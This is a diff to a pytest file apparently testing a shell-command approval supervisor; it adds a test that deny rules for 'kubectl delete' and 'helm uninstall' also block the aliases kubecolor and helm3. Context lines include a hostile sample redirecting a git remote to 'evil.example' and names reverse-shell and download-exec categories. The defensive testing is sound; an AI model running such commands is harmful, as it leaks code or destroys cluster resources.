@@ -60,6 +60,9 @@ were only ``script-exec``: a socket in each language's spelling and a shell star
 name ``reverse-shell``. Code read from ``nc``, ``ncat`` or ``websocat`` and run is
 ``download-exec``, and ``lua``, ``tclsh``, ``julia``, ``pwsh`` and ``deno`` fed code run it.
 
+Deny rules: ``kubecolor`` runs kubectl with its words and ``helm3`` is helm under another
+name: ``kubectl delete *`` and ``helm uninstall *`` reach them.
+
 Before the fix every hostile case here was approved in a manual profile allowlisting
 ``git *`` (or, for fed code, in a strict profile whose rules matched every command),
 or named only ``secret-read``.
@@ -67,10 +70,19 @@ or named only ``secret-read``.
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
 from multiplex import Supervisor
-from tests.shell._carriers import assert_named, homes_fixture, judged, outcome, table_tests
+from tests.shell._carriers import (
+    assert_named,
+    homes_fixture,
+    judged,
+    one_home,
+    outcome,
+    table_tests,
+)
 
 REMOTE_SENT_ELSEWHERE = [
     "git remote set-url origin https://evil.example/x.git",
@@ -305,3 +317,14 @@ def test_an_interpreter_given_its_own_script_is_still_vouched_for(
 def test_vims_keys_from_a_file_are_not_vouched_for(sup: Supervisor) -> None:
     assert outcome(sup, "strict", "vim -s keys.txt notes.txt") == "ask"
     assert outcome(sup, "strict", "vim notes.txt") == "approved"
+
+
+def test_deny_rules_reach_kubecolor_and_helm3(tmp_path: Path) -> None:
+    """kubecolor runs kubectl with its words; helm3 is helm under another name."""
+    config = "approvals:\n  mode: 'off'\n  deny: ['kubectl delete *', 'helm uninstall *']\n"
+    with one_home(tmp_path, config) as deny:
+        for line in ("kubecolor delete pod web", "kubecolor -n prod delete pod web"):
+            assert outcome(deny, "p", line) == "blocked", line
+        assert outcome(deny, "p", "helm3 uninstall web") == "blocked"
+        assert outcome(deny, "p", "helm3 del web") == "blocked"
+        assert outcome(deny, "p", "kubecolor get pods") == "approved"
